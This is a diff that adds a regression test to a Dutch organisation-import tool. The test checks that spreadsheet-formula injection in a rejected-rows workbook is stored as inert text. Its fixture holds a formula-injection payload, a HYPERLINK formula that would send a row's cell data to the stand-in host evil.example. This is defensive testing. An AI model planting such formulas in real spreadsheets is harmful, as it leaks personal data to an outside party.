@@ -228,6 +228,38 @@ def test_csv_files_named_after_what_they_hold(engine: Any, tmp_path: Path) -> No
     ]
 
 
+def test_a_rejected_rows_workbook_keeps_text_that_looks_like_a_formula_as_text(engine: Any, tmp_path: Path) -> None:
+    """Found by attack: the rejected rows' workbook (the default of ``--skip-invalid`` for several CSV files or a
+    workbook) stored a text starting with ``=`` as a formula, so a name typed as
+    ``=HYPERLINK("https://evil.example/?"&C2,"Klik")`` became a live formula, reading the row's cells, in the file the
+    administrator opens to fix the rows. Every text is written as text, and imports again as it was."""
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("https://evil.example/?"&C2,"Klik")'
+    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
+    quoted = '"' + evil.replace('"', '""') + '"'
+    (tmp_path / "medewerkers.csv").write_text(
+        "personeelsnummer;naam;e-mailadres;afdeling\n"
+        f"m1;{quoted};jan@example.nl;bestaat-niet\n"
+        "m2;=1+1;ria@example.nl;zorg\n", encoding="utf-8")
+    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
+    result = import_organisation(engine, files, skip_invalid=True, now=NOW)
+    assert [(r.entity, r.row) for r in result.rejected] == [("employees", 2)]
+    [rejected] = write_rejected(result, tmp_path / "afgekeurd.xlsx")
+    book = load_workbook(rejected)
+    cells = next(book["employees"].iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in cells[:2]] == [("m1", "s"), (evil, "s")]
+    assert not any(c.data_type == "f" for row in book["employees"].iter_rows() for c in row)
+    book.close()
+    fixed = load_workbook(rejected)
+    fixed["employees"]["D2"] = "zorg"
+    fixed.save(rejected)
+    again = import_organisation(engine, [rejected], now=NOW)
+    assert again.ok, again.lines()
+    found = EmployeeDirectory(engine).get("m1")
+    assert found is not None and found.name == evil
+
+
 def test_cli_text_and_json(tmp_path: Path) -> None:
     from regelwerk.cli import cli
     from regelwerk.registry import load_registry
